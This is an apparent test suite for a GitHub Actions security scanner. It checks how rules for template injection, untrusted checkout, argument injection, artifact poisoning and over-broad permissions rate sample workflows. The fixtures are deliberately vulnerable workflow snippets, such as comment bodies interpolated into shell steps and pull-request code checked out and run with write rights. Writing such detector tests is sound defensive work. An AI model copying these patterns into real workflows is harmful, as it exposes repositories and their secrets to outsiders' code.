  ["github.event.workflow_run.event != 'push'", 1],
])('code of the run before where %s', async (condition, count) => {
  const text = job(
    'workflow_run',
    `      - uses: actions/checkout@v4.2.2\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n      - run: make\n`,
    `    if: ${condition}\n`,
  );
  expect(await found('untrusted-checkout-execution', text)).toHaveLength(count);
});

test.each([
  ['gsub(/[^a-z]/, "", x); print "A=" x', 0],
  ['gsub(/[^a-z]+/, "", x); print "A=" x; print "B=1"', 0],
  ['gsub(/[^a-z]/, "", x); print "A=" y', 1],
  ['gsub(/[^a-z]/, "", x); print "A=" x $2', 1],
  ['gsub(/[a-z]/, "", x); print "A=" x', 1],
  ['gsub(/[^a-z]/, "", x); printf x', 1],
  ['print "A=" x', 1],
])('names of files through awk: %s', async (program, count) => {
  const text = job(
    'pull_request_target',
    `      - run: |\n          gh pr diff 1 --name-only | awk '{ ${program} }' >> "$GITHUB_ENV"\n`,
    '    permissions: { contents: write }\n',
  );
  expect((await found('github-env', text)).filter((one) => one.includes('names of the changed files'))).toHaveLength(count);
});

test.each([
  ['[labeled]', 'medium'],
  ['[labeled, opened]', 'high'],
])('a bot that acts on %s', async (types, severity) => {
  const text = job(
    `{ pull_request_target: { types: ${types} } }`,
    '      - run: gh pr review --approve\n',
    "    if: github.actor == 'renovate[bot]'\n",
  );
  const severities = async (id: string): Promise<readonly string[]> => (await found(id, text)).map((one) => one.split(':')[0] ?? '');
  expect(await severities('bot-conditions')).toEqual([severity]);
  expect(await severities('confused-deputy-merge')).toEqual([severity]);
});

test.each([
  ['{ contents: read }', 'medium'],
  ['{ issues: write }', 'critical'],
])('a script that an outsider writes, in a job with %s', async (rights, severity) => {
  const text = job('issue_comment', '      - run: echo ${{ github.event.comment.body }}\n', `    permissions: ${rights}\n`);
  expect((await found('template-injection', text)).map((one) => one.split(':')[0])).toEqual([severity]);
});

test.each([
  ['refs/heads/issue/$N', 0],
  ['refs/pull/$N/head', 1],
])('the number of a conversation in %s', async (ref, count) => {
  const text = job(
    'issue_comment',
    `      - env: { N: "\${{ github.event.issue.number }}" }\n        run: |\n          R="${ref}"\n          git fetch https://github.com/o/r "$R"\n          git checkout FETCH_HEAD\n          make\n`,
    '    permissions: { contents: write }\n',
  );
  expect(await found('untrusted-checkout-execution', text)).toHaveLength(count);
});

test.each([
  ['git checkout $(git branch --show-current)', /^medium: .*has no blanks/],
  ['git checkout $(cat name)', /^(?:high|critical): (?!.*has no blanks)/],
])('words of what was checked out: %s', async (script, told) => {
  const text = job('issue_comment', `      - run: gh pr checkout 1\n      - run: ${script}\n`, '    permissions: { contents: write }\n');
  expect(await found('argument-injection', text)).toEqual([expect.stringMatching(told)]);
});

test.each([
  ['unzip a.zip -d data', 0],
  ['unzip a.zip', 1],
  ['unzip a.zip -d data; unzip b.zip', 1],
  ['unzip a.zip -d "$X"', 1],
])('an archive that a script brings: %s', async (unpack, count) => {
  const text = job(
    'workflow_run',
    `      - uses: actions/checkout@v4\n      - uses: actions/github-script@v7\n        with:\n          script: await github.rest.actions.downloadArtifact({})\n      - run: ${unpack}\n      - run: npm run report ./data\n`,
    '    permissions: { contents: write }\n',
  );
  expect(await found('artifact-poisoning', text)).toHaveLength(count);
});

test.each([
  ['github.rest.repos.listReleases', 0],
  ['github.rest.issues.listForRepo', 1],
  ['"GET /repos/{owner}/{repo}/tags"', 0],
  ['"GET /repos/{owner}/{repo}/issues"', 1],
])('pages of %s', async (asked, count) => {
  const text = job(
    'schedule',
    `      - id: get\n        uses: actions/github-script@v7\n        with:\n          script: |\n            const all = await github.paginate(${asked}, { owner: 'o', repo: 'r' })\n            return all[0].title\n      - run: echo \${{ steps.get.outputs.result }}\n`,
  );
  expect(await found('template-injection', text)).toHaveLength(count);
});

test.each([
  ['ridedott/merge-me-action', 'medium'],
  ['hmarr/auto-approve-action', 'high'],
])('%s and the author of what it takes', async (action, severity) => {
  const text = job('pull_request_target', `      - uses: ${action}@v2\n`);
  expect((await found('confused-deputy-merge', text)).map((one) => one.split(':')[0])).toEqual([severity]);
});

test('that a job could do without a right is high where it is proved', async () => {
  const one = (uses: string): string => `    runs-on: ubuntu-24.04\n    steps:\n      - uses: ${uses}\n`;
  const rights = (a: string, b: string): string => `on: push\npermissions:\n  contents: write\njobs:\n  a:\n${a}  b:\n${b}`;
  const told = async (text: string): Promise<readonly string[]> => found('excessive-permissions', text);
  const unknown = one('some/action@v1');
  const called = '    uses: some/repository/.github/workflows/x.yml@v1\n';
  expect(await told(rights(unknown, unknown))).toEqual([expect.stringMatching(/^medium: .*is not proved/)]);
  expect(await told(rights(called, unknown))).toEqual([expect.stringMatching(/^medium: .*is not proved/)]);
  expect(await told(rights(unknown, one('some/setup-tool@v1')))).toEqual([expect.stringMatching(/^high: (?!.*is not proved)/)]);
  expect(await told(rights(unknown, one('actions/checkout@v4')))).toEqual([expect.stringMatching(/^high: (?!.*is not proved)/)]);
});

test('a checkout is high where something later may run what lies there', async () => {
  const text = (then: string): string => job('pull_request_target', `${checkout()}${then}`);
  expect(await found('untrusted-checkout', text(''))).toEqual([expect.stringMatching(/^medium: .*nothing is seen that runs them/)]);
  expect(await found('untrusted-checkout', text('      - uses: some/linter@v1\n'))).toEqual([
    expect.stringMatching(/^high: (?!.*nothing is seen)/),
  ]);
});

test.each([
  ['Q=".[] | select(.user.login == \\"$USER\\") | .id"', 0],
  ['Q=".[] | .title"', 1],
  ['Q=".[] | .$FIELD"', 1],
  ['Q=".[] | .id"; Q=".[] | .title"', 1],
])('a filter of jq in a variable: %s', async (set, count) => {
  const text = job(
    'issue_comment',
    `      - run: |\n          ${set}\n          gh api /repos/o/r/issues/1/comments | jq -r "$Q" > found\n          gh api /repos/o/r/issues/comments/$(cat found)\n`,
  );
  expect(await found('argument-injection', text)).toHaveLength(count);
});

test.each([
  ['test "$(date -d "$(jq .head.repo.pushed_at pr)" +%s)" -lt "$(date -d "$AT" +%s)"', 'medium'],
  ['jq .head.repo.full_name pr', 'high'],
])('a checkout behind %s', async (compares, severity) => {
  const text = job(
    'issue_comment',
    `      - env:\n          AT: \${{ github.event.comment.created_at }}\n        run: ${compares}\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: refs/pull/\${{ github.event.issue.number }}/head\n      - run: make\n`,
    "    permissions: { contents: write }\n    if: github.event.comment.author_association == 'MEMBER'\n",
  );
  expect((await found('approval-race', text)).map((one) => one.split(':')[0])).toEqual([severity]);
});

test('a right that each job is seen to need is no more than they need', async () => {
  const upload = '    runs-on: ubuntu-24.04\n    steps:\n      - uses: softprops/action-gh-release@v2\n';
  const rights = (jobs: string): string => `on: push\npermissions:\n  contents: write\njobs:\n${jobs}`;
  expect((await found('excessive-permissions', rights(`  a:\n${upload}  b:\n${upload}`))).map((one) => one.split(':')[0])).toEqual(['low']);
  const other = '  c:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n';
  expect((await found('excessive-permissions', rights(`  a:\n${upload}${other}`))).map((one) => one.split(':')[0])).toEqual(['high']);
});

test.each([
  ['main', 0],
  ["'release/**'", 1],
])('the name of a branch where the trigger lets %s through', async (branch, count) => {
  const text = job(
    `{ workflow_run: { workflows: [a], branches: [${branch}] } }`,
    '      - run: echo ${{ github.event.workflow_run.head_branch }}\n',
  );
  expect(await found('template-injection', text)).toHaveLength(count);
});

test('what comes to a job with nothing to lose is worth less than its neighbour’s secrets', async () => {
  const taking = (rights: string, runs = '      - run: ./x.sh\n'): string =>
    `on: workflow_run\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    permissions: ${rights}\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: \${{ github.event.workflow_run.id }}\n${runs}  b:\n    runs-on: ubuntu-24.04\n    permissions: { contents: write }\n    steps:\n      - run: git push\n`;
  expect((await found('dangerous-triggers', taking('{ actions: read }'))).map((one) => one.split(':')[0])).toEqual(['medium']);
  expect((await found('dangerous-triggers', taking('{ contents: write }'))).map((one) => one.split(':')[0])).toEqual(['high']);
  // Nothing runs it there, as far as is known.
  expect(await found('dangerous-triggers', taking('{ contents: write }', '      - uses: some/comment@v1\n'))).toEqual([
    expect.stringMatching(/^medium: /),
  ]);
  expect(await found('dangerous-triggers', taking('{ contents: write }', ''))).toEqual([
    expect.stringMatching(/^medium: .*that anything runs or obeys it is not seen/),
  ]);
});
